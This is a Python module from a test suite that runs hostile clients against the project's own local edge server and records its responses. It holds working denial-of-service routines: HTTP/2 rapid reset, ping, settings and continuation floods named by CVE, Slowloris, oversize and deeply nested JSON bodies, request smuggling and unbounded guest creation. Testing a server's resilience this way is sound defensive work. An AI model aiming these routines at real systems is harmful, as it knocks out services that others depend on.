"""Hostile clients of the edge, one a process: `python -m tests.isolation.attacks NAME PORT TOKEN [OUTCOME]`.

Each goes on until its standard input ends, and until it has met the outcome that is expected, if any. Then it prints
what the edge did to it, as JSON: how often by kind, such as `goaway 11`, `reset 2`, `status 431` or `closed`. The first
line, "begun", comes once it is at it.
"""

import asyncio
import contextlib
import itertools
import json
import os
import sys
import threading
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine

from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated, ResponseReceived, StreamReset
from h2.exceptions import H2Error
from h2.settings import SettingCodes
from hyperframe.frame import ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame, SettingsFrame

from tests.support.edge.http2 import Connection, connected
from tests.support.edge.smuggled import smuggled

Outcomes = Counter[str]
Attack = Callable[[int, str, Outcomes], Awaitable[None]]

LARGE = "/v1/taxonomy"
PATIENCE = 20.0  # seconds
CONNECTIONS = 20
STREAMS = 150  # more than there may be on a connection
ended = threading.Event()  # nobody is measured any more


def request(token: str, path: str = LARGE, verb: str = "GET") -> list[tuple[str, str]]:
    """The headers of a request that would be served."""
    own = [(":method", verb), (":scheme", "http"), (":authority", "edge"), (":path", path)]
    return [*own, ("authorization", f"Bearer {token}")]


async def listen(connection: Connection, outcomes: Outcomes) -> None:
    """Counts what the edge does until it ends the connection."""
    with contextlib.suppress(H2Error, ConnectionError):
        async for event in connection.events():
            if isinstance(event, ResponseReceived):
                status = next(str(value) for name, value in event.headers or () if str(name) == ":status")
                outcomes[f"status {status}"] += 1
            elif isinstance(event, StreamReset):
                outcomes[f"reset {int(event.error_code or 0)}"] += 1
            elif isinstance(event, ConnectionTerminated):
                outcomes[f"goaway {int(event.error_code or 0)}"] += 1
    outcomes["closed"] += 1


async def over_h2(port: int, outcomes: Outcomes, attack: Callable[[Connection], Coroutine[None, None, None]]) -> None:
    """Attacks on one connection, and on a new one whenever the edge has ended it."""
    while True:
        with contextlib.suppress(ConnectionError):
            async with connected(port) as connection:
                acting = asyncio.create_task(attack(connection))
                await listen(connection, outcomes)
                acting.cancel()
                await asyncio.wait([acting])
                if not acting.cancelled() and not isinstance(acting.exception(), H2Error | ConnectionError | None):
                    await acting


async def zero_window(port: int, token: str, outcomes: Outcomes) -> None:
    """Asks for large replies on as many streams as there may be, and never reads one."""

    async def attack(connection: Connection) -> None:
        connection.h2.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
        await connection.send()
        for number in range(1000):
            if number >= STREAMS and ended.is_set():
                break
            connection.h2.send_headers(connection.h2.get_next_available_stream_id(), request(token), end_stream=True)
            await connection.send()

    await asyncio.gather(*(over_h2(port, outcomes, attack) for _ in range(CONNECTIONS)))


async def rapid_reset(port: int, token: str, outcomes: Outcomes) -> None:
    """CVE-2023-44487: each request is taken back at once, so no limit of streams is ever reached."""

    async def attack(connection: Connection) -> None:
        while True:
            for _ in range(50):
                stream = connection.h2.get_next_available_stream_id()
                connection.h2.send_headers(stream, request(token), end_stream=True)
                connection.h2.reset_stream(stream, ErrorCodes.CANCEL)
            await connection.send()
            await asyncio.sleep(0)

    await asyncio.gather(*(over_h2(port, outcomes, attack) for _ in range(10)))


async def flood(port: int, outcomes: Outcomes, *frames: Frame) -> None:
    """The same frames over and over, on ten connections, and no answer is read."""
    block = b"".join(frame.serialize() for frame in frames) * 200

    async def one() -> None:
        while True:
            with contextlib.suppress(ConnectionError):
                async with connected(port, receive_buffer=4096) as connection:
                    while True:
                        connection.write(block)
                        await connection.send()
            outcomes["closed"] += 1

    await asyncio.gather(*(one() for _ in range(10)))


async def ping_flood(port: int, token: str, outcomes: Outcomes) -> None:
    """CVE-2019-9512: each wants an answer."""
    await flood(port, outcomes, PingFrame(0, opaque_data=b"12345678"))


async def settings_flood(port: int, token: str, outcomes: Outcomes) -> None:
    """CVE-2019-9515: so does each of these."""
    await flood(port, outcomes, SettingsFrame(0))


async def empty_data_flood(port: int, token: str, outcomes: Outcomes) -> None:
    """CVE-2019-9518: frames of a request that never ends and never says anything."""

    async def attack(connection: Connection) -> None:
        connection.h2.send_headers(1, request(token, "/v1/scans", "POST"))
        await connection.send()
        while True:
            connection.write(DataFrame(1, b"").serialize() * 200)
            await connection.send()
            await asyncio.sleep(0)

    await asyncio.gather(*(over_h2(port, outcomes, attack) for _ in range(10)))


async def continuation_flood(port: int, token: str, outcomes: Outcomes) -> None:
    """CVE-2024-27316: headers that never end."""

    async def attack(connection: Connection) -> None:
        block = connection.h2.encoder.encode(request(token))
        connection.write(HeadersFrame(1, block, flags=["END_STREAM"]).serialize())
        while True:
            field = connection.h2.encoder.encode([("x-more", "a" * 1000)])
            connection.write(ContinuationFrame(1, field).serialize() * 20)
            await connection.send()
            await asyncio.sleep(0)

    await asyncio.gather(*(over_h2(port, outcomes, attack) for _ in range(10)))


async def over_http1(port: int, outcomes: Outcomes, begin: bytes, then: bytes) -> None:
    """One connection that says something, then a little more each time, until the edge has enough; then another."""
    while True:
        with contextlib.suppress(ConnectionError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(begin)
            answer = asyncio.create_task(reader.read(1 << 16))
            while not answer.done():
                writer.write(then)
                await asyncio.wait([answer], timeout=0.5)
            found = answer.result()
            outcomes[f"status {found.split()[1].decode()}" if found else "closed"] += 1
            writer.close()


async def slow_headers(port: int, token: str, outcomes: Outcomes) -> None:
    """Slowloris: 500 connections that send a header now and then."""
    begin = b"GET /v1/scans HTTP/1.1\r\nHost: edge\r\n"
    await asyncio.gather(*(over_http1(port, outcomes, begin, b"x-more: a\r\n") for _ in range(500)))


async def slow_bodies(port: int, token: str, outcomes: Outcomes) -> None:
    """The same with a body of which a byte comes now and then."""
    begin = f"POST /v1/scans HTTP/1.1\r\nHost: edge\r\nAuthorization: Bearer {token}\r\nContent-Length: 99999\r\n\r\n"
    await asyncio.gather(*(over_http1(port, outcomes, begin.encode(), b" ") for _ in range(500)))


async def idle_connections(port: int, token: str, outcomes: Outcomes) -> None:
    """2,000 connections on which nothing happens."""
    await asyncio.gather(*(over_http1(port, outcomes, b"", b"") for _ in range(2000)))


async def repeated(port: int, outcomes: Outcomes, *contents: bytes) -> None:
    """The same requests over HTTP/1.1 again and again, each on a connection of its own, eight at a time."""

    async def one() -> None:
        for content in itertools.cycle(contents):
            with contextlib.suppress(ConnectionError):
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.write(content)
                outcomes[told(await reader.read())] += 1
                writer.close()

    await asyncio.gather(*(one() for _ in range(8)))


def told(answer: bytes) -> str:
    """What came back on a connection: a status and its reason, if there is one."""
    head, _, body = answer.partition(b"\r\n\r\n")
    if not head:
        return "closed"
    if body.count(b"HTTP/1.1 "):
        return "answered twice"
    with contextlib.suppress(ValueError, LookupError):
        return f"status {head.split()[1].decode()} {json.loads(body)['details'][0]['reason']}"
    return f"status {head.split()[1].decode()}"


def post(token: str, body: bytes, path: str = "/v1/rules:match", headers: str = "") -> bytes:
    """A request with a JSON body as HTTP/1.1 writes it."""
    head = f"POST {path} HTTP/1.1\r\nHost: edge\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n{headers}"
    return f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body


async def giant_headers(port: int, token: str, outcomes: Outcomes) -> None:
    """60 kB of them."""
    await repeated(port, outcomes, post(token, b"{}", headers=f"Cookie: {'a' * 60_000}\r\n"))


async def oversize_bodies(port: int, token: str, outcomes: Outcomes) -> None:
    """Twice what is taken."""
    await repeated(port, outcomes, post(token, b'{"user_input": "' + b"a" * (2 << 20) + b'"}', "/v1/scans"))


async def deep_json(port: int, token: str, outcomes: Outcomes) -> None:
    """50,000 levels."""
    await repeated(port, outcomes, post(token, b'{"category":' * 50_000 + b"1" + b"}" * 50_000))


async def many_names(port: int, token: str, outcomes: Outcomes) -> None:
    """60,000 names that no field has."""
    names = b",".join(b'"x%d":1' % number for number in range(60_000))
    await repeated(port, outcomes, post(token, b"{" + names + b"}"))


async def many_items(port: int, token: str, outcomes: Outcomes) -> None:
    """20,000 of a list, each of them wrong."""
    await repeated(port, outcomes, post(token, b'{"tags": [' + b",".join([b'""'] * 20_000) + b"]}"))


async def smuggling(port: int, token: str, outcomes: Outcomes) -> None:
    """Two lengths of one body, so that a proxy and what is behind it differ on where the next request begins."""
    await repeated(port, outcomes, *smuggled(token).values())


async def guests(port: int, token: str, outcomes: Outcomes) -> None:
    """New guests without end: it takes no token to make one."""
    await repeated(port, outcomes, post("", b"{}", "/v1/auth/guest").replace(b"Authorization: Bearer \r\n", b""))


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(zero_window, rapid_reset, ping_flood, settings_flood, empty_data_flood, continuation_flood),
        *(slow_headers, slow_bodies, idle_connections),
        *(giant_headers, oversize_bodies, deep_json, many_names, many_items, smuggling, guests),
    )
}


def wait_for_end() -> None:
    """Returns when standard input has ended."""
    sys.stdin.read()
    ended.set()


async def main(name: str, port: int, token: str, expected: str) -> None:
    """Attacks until standard input ends, and on a busy machine a little longer, until the edge had its say."""
    outcomes = Outcomes()
    ending = asyncio.get_running_loop().run_in_executor(None, wait_for_end)
    attacking = asyncio.ensure_future(ATTACKS[name](port, token, outcomes))
    print("begun", flush=True)
    await asyncio.wait([ending, attacking], return_when=asyncio.FIRST_COMPLETED)
    if attacking.done():
        attacking.result()
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(PATIENCE):
            while expected and not outcomes[expected]:  # noqa: ASYNC110  # they are counted in many places
                await asyncio.sleep(0.01)
    print(json.dumps(outcomes), flush=True)
    os._exit(0)  # thousands of connections needn't say goodbye


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]))
